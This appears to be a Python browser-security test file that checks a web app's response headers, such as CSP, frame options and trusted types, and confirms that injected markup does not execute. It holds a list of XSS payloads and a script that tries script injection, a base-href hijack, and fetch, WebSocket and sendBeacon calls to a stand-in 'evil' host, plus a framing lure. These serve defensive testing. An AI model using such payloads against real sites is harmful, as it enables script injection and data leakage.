"""S29: every answer forbids browsers what it does not need; markup that has got into a page is not run by them."""

from collections.abc import Iterator

import httpx2
from playwright.async_api import Browser, Route
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus

from tests.attacks.arena import Target, attack
from tests.attacks.routes import NOWHERE, addresses
from tests.attacks.visits import luring, visiting
from tests.web.site import HTML

WANTED = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
    "strict-transport-security": "max-age=63072000; includeSubDomains",
}
POLICY = {
    "default-src": "'none'", "script-src": "'self'", "style-src": "'self'", "img-src": "'self'",
    "connect-src": "'self'", "form-action": "'self'", "base-uri": "'none'", "frame-ancestors": "'none'",
    "worker-src": "'self'", "manifest-src": "'self'",
}  # fmt: skip
FEATURES = ("camera", "geolocation", "microphone", "payment", "usb", "display-capture", "browsing-topics")
UNTYPED = ("/api/docs",)
"""Pages of others' code that sets markup as text."""


def wrong(path: str, headers: httpx2.Headers) -> Iterator[str]:
    """What an answer's headers say otherwise than they should, or do not say."""
    for name, value in WANTED.items():
        if headers.get(name) != value:
            yield name
    if headers.get("referrer-policy") not in ("same-origin", "strict-origin" if path.startswith("/reset/") else None):
        yield "referrer-policy"
    told = (rule.strip().partition(" ") for rule in headers.get("content-security-policy", "").split(";"))
    policy = {name: value for name, _, value in told}
    typed = {} if path in UNTYPED else {"require-trusted-types-for": "'script'", "trusted-types": "lit-html notifs"}
    for name, value in {**POLICY, **typed}.items():
        if policy.get(name) != value:
            yield name
    for feature in FEATURES:
        if f"{feature}=()" not in headers.get("permissions-policy", "").split(", "):
            yield feature
    if not path.startswith("/notifs/static/") and headers.get("cache-control") != "no-store":
        yield "cache-control"


@attack("S29", off="headers_are_not_sent")
async def test_every_answer_says_what_it_does_not_need(target: Target) -> list[str]:
    """Pages, JSON, files, redirects, refusals and errors, of every address there is, and of some that there are not."""
    ada, through, statuses = await target.person("ada"), [], set()
    every = [*addresses(target), *((method, path) for path in NOWHERE for method in ("GET", "POST", "PUT"))]
    async with target.visitor() as nobody:
        cookie = await target.cookie(ada)
        for method, path in every:
            for headers in (
                {}, HTML, {**HTML, "cookie": cookie, "sec-fetch-site": "same-origin"}, {"origin": "https://evil.example"},
            ):  # fmt: skip
                if path == "/logout/" and "cookie" in headers:
                    continue
                answer = await nobody.request(method, path, headers=headers)
                statuses.add(answer.status_code)
                through += [f"{method} {path} {answer.status_code} {name}" for name in wrong(path, answer.headers)]
    assert statuses >= {200, 303, 307, 400, 401, 403, 404, 405}
    try:
        async with connect(f"{target.url.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket", proxy=None):
            through.append("a socket for nobody")
    except InvalidStatus as refused:
        through += [f"socket {name}" for name in wrong("", httpx2.Headers(list(refused.response.headers.raw_items())))]
    return through


MARKUP = """<script>alert("inline")</script><img src="/nothing" onerror="alert('handler')">
<svg onload="alert('svg')"></svg><a id="link" href="javascript:alert('link')">link</a>
<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<script src="data:text/javascript,alert('data')"></script><script src="{evil}script.js"></script>
<script type="module">alert("module")</script><object data="data:text/html,<script>alert('object')</script>"></object>
<base href="{evil}"><script src="relative.js"></script><link rel="stylesheet" href="{evil}style.css">
<style>@import "{evil}import.css"; body { background: url("{evil}background.png") }</style>
<img src="{evil}pixel.png"><form id="form" action="{evil}form"><input name="x"></form>
<iframe src="{evil}frame"></iframe><video src="{evil}video"></video>
<embed src="{evil}embed"><link rel="manifest" href="{evil}manifest">
<meta http-equiv="content-security-policy" content="script-src *">
<div style="background: url({evil}style.png)"></div>"""
SCRIPT = """evil => {
    const place = document.body.appendChild(document.createElement("div"));
    const tries = [
        () => place.innerHTML = "<img src=/nothing onerror=alert('innerHTML')>",
        () => place.append(document.createRange().createContextualFragment("<script>alert('fragment')</" + "script>")),
        () => place.append(Object.assign(document.createElement("script"), {text: "alert('text')"})),
        () => place.append(Object.assign(document.createElement("script"), {src: evil + "script.js"})),
        () => place.setAttribute("onclick", "alert('attribute')"),
        () => document.write("<script>alert('write')</" + "script>"),
        () => setTimeout("alert('timeout')"),
        () => fetch(evil, {mode: "no-cors"}).catch(() => null),
        () => { new WebSocket(evil.replace("http", "ws")) },
        () => navigator.sendBeacon(evil),
        () => { new Worker("data:text/javascript,0") },
    ];
    for (const attempt of tries) try { attempt() } catch { }
    place.click();
    document.querySelector("#link")?.click();
    document.querySelector("#form")?.submit();
}"""
"""What somebody's script would do, and a careless one of ours with somebody's text."""


@attack("S29", off="headers_are_not_sent")
async def test_markup_that_has_got_into_a_page_is_not_run(target: Target, browser: Browser) -> list[str]:
    """As if a page did not escape what it shows: nothing of it runs, and nothing is asked of others."""
    ada = await target.person("ada")
    async with luring("evil") as lure, visiting(browser, target, ada) as visit:

        async def spoil(route: Route) -> None:
            answer = await route.fetch()
            body = (await answer.text()).replace("</main>", MARKUP.replace("{evil}", f"{lure.other_site}/") + "</main>")
            await route.fulfill(response=answer, body=body)

        await visit.page.route("**/notifications/", spoil)
        await visit.page.goto(f"{target.url}/notifications/")
        await visit.page.evaluate(SCRIPT, f"{lure.other_site}/")
        await visit.page.wait_for_load_state("networkidle")
        return [*visit.ran, *lure.asked]


@attack("S29", off="headers_are_not_sent")
async def test_no_other_page_has_one_of_ours_in_a_frame(target: Target, browser: Browser) -> list[str]:
    """Else it would lay itself over our buttons; and by a window that it opens it would learn where a person is."""
    ada, through = await target.person("ada"), []
    lure = f'<!doctype html><iframe src="{target.url}/notifications/"></iframe>'
    async with luring(lure) as lured, visiting(browser, target, ada) as visit:
        for place in (lured.same_site, lured.other_site):
            await visit.page.goto(place)
            through += [place] if visit.page.frames[1].url.startswith(target.url) else []
            async with visit.context.expect_page() as opened:
                await visit.page.evaluate(f"window.other = open('{target.url}/notifications/')")
            await (await opened.value).wait_for_load_state()
            through += [] if await visit.page.evaluate("other.closed") else [f"window of {place}"]
    return through
